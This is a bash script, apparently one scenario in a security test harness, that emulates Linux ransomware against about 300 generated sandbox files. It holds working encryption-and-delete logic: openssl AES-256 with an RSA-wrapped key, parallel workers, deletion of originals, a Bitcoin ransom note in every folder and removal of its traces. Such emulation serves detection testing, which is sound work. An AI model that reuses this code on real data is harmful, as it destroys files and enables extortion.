#!/usr/bin/env bash
# Family: ransomware — file-encrypting extortion on a Linux host (MITRE T1486), in the style of
# the shell-script ransomware seen on Linux servers: enumerate the victim's documents, generate a
# per-run key, wrap it with the attacker's RSA public key, encrypt every file with
# `openssl enc -aes-256-cbc -pbkdf2` into `<file>.locked` (two workers in parallel), delete the
# originals, drop a ransom note in every directory.
#
# The victim data is ~300 generated files under $W/victim (made in `setup`); nothing else is
# touched.
set -euo pipefail
# shellcheck source=SCRIPTDIR/../lib.sh
source "$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")/../lib.sh"
scenario_init ransomware

do_setup() {
    local V="$W/victim" n i d ext
    rm -rf "$V" "${W:?}/attacker"
    mkdir -p "$V"/{Documents/reports,Documents/invoices,Pictures/2024,Projects/webapp/src,Backups/db,Desktop} "$W/attacker"
    local dirs=(Documents/reports Documents/invoices Pictures/2024 Projects/webapp/src Backups/db Desktop)
    local exts=(docx xlsx pdf txt csv jpg png sql py js md bak)
    n=$(rand_int 260 340)
    for ((i = 0; i < n; i++)); do
        d=${dirs[RANDOM % ${#dirs[@]}]}
        ext=${exts[RANDOM % ${#exts[@]}]}
        if ((RANDOM % 3)); then
            head -c $((RANDOM % 6000 + 100)) /dev/urandom | base64 >"$V/$d/file_$i.$ext"
        else
            head -c $((RANDOM % 8000 + 100)) /dev/urandom >"$V/$d/file_$i.$ext"
        fi
    done
    # The attacker's key pair: the public half ships with the ransomware.
    openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$W/attacker/priv.pem" 2>/dev/null
    openssl pkey -in "$W/attacker/priv.pem" -pubout -out "$W/attacker/pub.pem"
}

do_run() {
    local V="$W/victim" key
    cd "$W"
    # 1. target enumeration
    find "$V" -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.txt' -o -name '*.csv' \
        -o -name '*.jpg' -o -name '*.png' -o -name '*.sql' -o -name '*.py' -o -name '*.js' -o -name '*.md' \
        -o -name '*.bak' \) >"$W/.targets"
    log "$(wc -l <"$W/.targets") targets"
    df -h "$V" >/dev/null
    # 2. per-run key, wrapped with the attacker's public key, plaintext key never stored
    key=$(openssl rand -hex 32)
    printf '%s' "$key" | openssl pkeyutl -encrypt -pubin -inkey "$W/attacker/pub.pem" -out "$V/.key.enc"
    # 3. encrypt + delete originals, two workers (xargs -P 2), 20 files per worker process
    cat >"$W/.w.sh" <<'EOF'
#!/bin/sh
for f in "$@"; do
    openssl enc -aes-256-cbc -pbkdf2 -salt -pass "env:K" -in "$f" -out "$f.locked" && rm -f "$f"
done
EOF
    chmod +x "$W/.w.sh"
    K=$key timeout 25 xargs -d '\n' -P 2 -n 20 "$W/.w.sh" <"$W/.targets"
    unset key
    # 4. ransom note in every directory, plus a desktop copy
    find "$V" -type d | while read -r d; do
        cat >"$d/README_FOR_DECRYPT.txt" <<'EOF'
All your files have been encrypted with AES-256.
To get them back, send 0.05 BTC to the address below and mail your ID.
Do not rename the .locked files or try third-party tools: you will lose them forever.
EOF
    done
    # 5. cover tracks
    rm -f "$W/.w.sh" "$W/.targets"
    log "$(find "$V" -name '*.locked' | wc -l) files locked, $(find "$V" -type f ! -name '*.locked' ! -name 'README_FOR_DECRYPT.txt' ! -name '.key.enc' | wc -l) left"
}

do_teardown() {
    default_teardown
}

scenario_main "$@"
